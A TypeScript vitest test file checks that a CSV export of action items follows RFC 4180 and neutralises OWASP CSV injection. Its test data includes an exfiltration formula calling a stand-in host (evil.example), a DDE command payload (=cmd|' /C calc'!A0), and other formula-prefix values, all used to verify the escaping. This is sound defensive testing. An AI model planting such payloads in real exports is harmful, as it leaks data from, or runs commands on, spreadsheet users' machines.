// CSV of `coe actions`: RFC 4180 (read back by a real CSV parser), and safe to
// open in a spreadsheet (OWASP, CSV injection): no cell begins with a
// character that would make it a formula.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvText } from '../../src/actions/csv.js';
import { CSV_HEADER, renderCsv } from '../../src/actions/render.js';
import { row } from './helpers.js';

const readBack = (text: string) => parse(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false }) as string[][];

describe('CSV: RFC 4180', () => {
  it('ends every record, the last one too, with CRLF, and never uses a bare LF as a line end', () => {
    const text = renderCsv([row({}), row({ id: 'AI-2' })]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(4);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes the header, then one record a row, every field as it was', () => {
    const r = row({ reach: 'team', lessons: ['L1', 'L2'], daysOverdue: 12, line: 85 });
    expect(readBack(renderCsv([r]))).toEqual([
      CSV_HEADER,
      [
        'COE-2025-001',
        'AI-1',
        'Read the pool size from one file',
        'short',
        'payments-team',
        '2025-11-30',
        'open',
        'team',
        'L1, L2',
        '12',
        'A second source fails the build',
        'a.md',
        '85',
      ],
    ]);
    expect(readBack(renderCsv([row({ due: null, dueWritten: '', reach: null, daysOverdue: null, lessons: [] })]))[1]!.slice(5, 10)).toEqual(
      ['', 'open', '', '', ''],
    );
  });

  it('writes a Due that is not a date as written', () => {
    expect(readBack(renderCsv([row({ due: null, dueWritten: 'next week' })]))[1]![5]).toBe('next week');
  });

  it('survives a round trip with commas, quotes, line breaks and semicolons in an action', () => {
    const actions = [
      'Alarm on p99, p99.9 and max',
      'Rename the "retry" flag to "retry-once"',
      'A "quoted, comma" value',
      'First line\r\nsecond line\nthird\rfourth',
      'Trailing quote"',
      '"',
      '',
      'Semicolons; a tab\tinside',
      'Emoji 🚨 and 中文 and é',
    ];
    const text = renderCsv(actions.map((action, i) => row({ id: `AI-${i + 1}`, action })));
    const records = readBack(text);
    expect(records.slice(1).map((r) => r[2])).toEqual(actions);
    expect(records.every((r) => r.length === CSV_HEADER.length)).toBe(true);
  });

  it('quotes a field only when it must (a comma, quote, CR, LF, or the ; and tab other separators use)', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
    expect(csvField(null)).toBe('');
    expect(csvField(7)).toBe('7');
  });
});

describe('CSV: no formula runs in a spreadsheet (OWASP CSV injection)', () => {
  const dangerous = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+2',
    '\r=1+2',
    '\n=1+2',
    "=cmd|' /C calc'!A0",
  ];

  it.each(dangerous)('writes %j after a single quote, so it is text', (value) => {
    const field = csvField(value);
    const unquoted = field.startsWith('"') ? field.slice(1) : field;
    expect(unquoted.startsWith("'")).toBe(true);
  });

  it('neutralises every field, ids and owners too, and the round trip shows the prefix', () => {
    const r = row({
      coe: '=COE',
      id: '+AI',
      action: dangerous[0]!,
      owner: '@payments-team',
      validation: '-1',
      term: '\tshort',
      status: '\ropen',
    });
    const [, record] = readBack(renderCsv([r]));
    expect(record!.slice(0, 7)).toEqual(["'=COE", "'+AI", `'${dangerous[0]}`, "'\tshort", "'@payments-team", '2025-11-30', "'\ropen"]);
    expect(record![10]).toBe("'-1");
    for (const value of dangerous) expect(readBack(renderCsv([row({ action: value })]))[1]![2]).toBe(`'${value}`);
  });

  it('leaves a cell alone when the character is not the first', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('in-progress')).toBe('in-progress');
    expect(csvField("'=already")).toBe("'=already");
  });

  it('writes no cell of the whole text that begins with a formula character', () => {
    const text = csvText(['h'], [[dangerous.join(',')], ...dangerous.map((d) => [d])]);
    for (const [cell] of readBack(text).slice(1)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });
});
